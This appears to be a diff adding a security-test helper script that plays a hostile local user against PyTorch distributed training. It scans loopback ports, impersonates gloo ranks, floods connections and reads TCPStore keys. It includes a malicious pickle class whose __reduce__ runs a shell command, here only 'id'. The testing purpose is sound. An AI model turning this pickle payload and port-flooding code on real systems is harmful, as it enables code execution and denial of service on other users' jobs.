@@ -1,0 +1,112 @@
+"""Another user of this machine, who knows what there is to know: gives root up, watches for listening ports of the
+victim on loopback, and attacks each at once. Run by test_other_user; harmless (its pickle would run ``id``).
+
+    python attacker.py VICTIM_UID MODE MARK
+
+MODE join: poses as a rank, by the small numbers that gloo expects; answers what it hears with a pickle whose command
+writes MARK.
+MODE hold: opens connections and says nothing. MODE flood: opens thousands and writes rubbish.
+MODE store: tries every listening port as torch's TCPStore.
+Prints what it has heard, one line each, and counts at the end of stdin.
+"""
+
+import os
+import pickle
+import select
+import socket
+import struct
+import sys
+import threading
+import time
+from contextlib import suppress
+
+OTHER_UID = 12345
+victim, mode, mark = sys.argv[1:]
+held = []
+counts = {"ports": 0, "connections": 0, "heard": 0}
+
+
+class Evil:
+    def __reduce__(self):
+        return os.system, (f"id > {mark}",)
+
+
+def listening():
+    with open("/proc/net/tcp") as file:
+        rows = [line.split() for line in file.read().splitlines()[1:]]
+    theirs = [row for row in rows if row[3] == "0A" and row[7] == victim and row[1].startswith("0100007F")]
+    return {(int(row[1].split(":")[1], 16), row[9]) for row in theirs}
+
+
+def connect(port):
+    connection = socket.socket()
+    connection.setblocking(False)
+    with suppress(BlockingIOError):
+        connection.connect(("127.0.0.1", port))
+    poll = select.poll()
+    poll.register(connection, select.POLLOUT)
+    if not poll.poll(10):
+        raise TimeoutError
+    held.append(connection)
+    counts["connections"] += 1
+    return connection
+
+
+def answer(connection):
+    with suppress(OSError):
+        while data := connection.recv(1 << 16):
+            counts["heard"] += len(data)
+            print("heard", data[:80], flush=True)
+            connection.sendall(pickle.dumps(Evil()))
+
+
+def attack(port):
+    counts["ports"] += 1
+    if mode == "join":
+        for number in range(6):
+            connection = connect(port)
+            connection.settimeout(2)
+            connection.sendall(struct.pack("q", number))
+            threading.Thread(target=answer, args=(connection,), daemon=True).start()
+    elif mode == "hold":
+        for _ in range(20):
+            connect(port)
+    elif mode == "flood":
+        for _ in range(2000):
+            connect(port).send(b"\xff" * 64)
+    elif mode == "store":
+        threading.Thread(target=read_store, args=(port,), daemon=True).start()
+
+
+def read_store(port):
+    from datetime import timedelta
+
+    with suppress(RuntimeError):
+        store = torch.distributed.TCPStore(
+            "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
+        )
+        keys = store.list_keys()
+        counts["heard"] += len(keys)
+        print("heard", keys, flush=True)
+
+
+if mode == "store":
+    import encodings.idna  # noqa: F401  # what needs root's files is loaded before root is given up
+
+    import torch.distributed
+os.setgroups([])
+os.setgid(OTHER_UID)
+os.setuid(OTHER_UID)
+print("ready", flush=True)
+threading.Thread(target=lambda: (sys.stdin.read(), print(counts, flush=True), os._exit(0)), daemon=True).start()
+seen = set()
+while True:
+    for port in listening() - seen:
+        seen.add(port)
+        with suppress(OSError):  # it has closed
+            attack(port[0])
+    if len(held) > 6000:
+        for connection in held:
+            connection.close()
+        held.clear()
+    time.sleep(0)
